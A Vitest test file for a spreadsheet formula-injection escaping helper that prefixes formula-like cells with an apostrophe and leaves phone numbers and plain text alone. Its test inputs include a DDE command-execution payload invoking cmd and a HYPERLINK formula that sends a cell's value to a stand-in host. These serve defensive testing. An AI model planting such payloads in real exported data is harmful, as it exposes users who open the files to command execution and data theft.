import { describe, expect, it } from 'vitest';
import { asText, withoutApostrophe } from '../../../../cli/enrich/formula-cells.ts';

describe('a cell', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '+A1',
    '@SUM(A1:A9)',
    '\t=1',
    '\r=1',
    '\n=1',
    '+49 170 1\t=1',
  ])('that a spreadsheet would compute is text: %j', (cell) => {
    expect(asText(cell)).toBe(`'${cell}`);
    expect(withoutApostrophe(asText(cell))).toBe(cell);
  });

  it.each([
    '+49 170 1234567',
    '+49 (0)170/123-45.67',
    '+491701234567',
    '-5',
    '-12.50',
    '-',
    '',
    ' ',
    'Ann',
    'a=b',
    '5-6',
    "O'Neill",
  ])('that is a phone number, a number or a text stays as it is: %j', (cell) => {
    expect(asText(cell)).toBe(cell);
    expect(withoutApostrophe(cell)).toBe(cell);
  });

  it('keeps an apostrophe of its own', () => {
    for (const cell of ["'Ndrangheta", "'+49 170", "'"]) expect(withoutApostrophe(cell)).toBe(cell);
  });
});
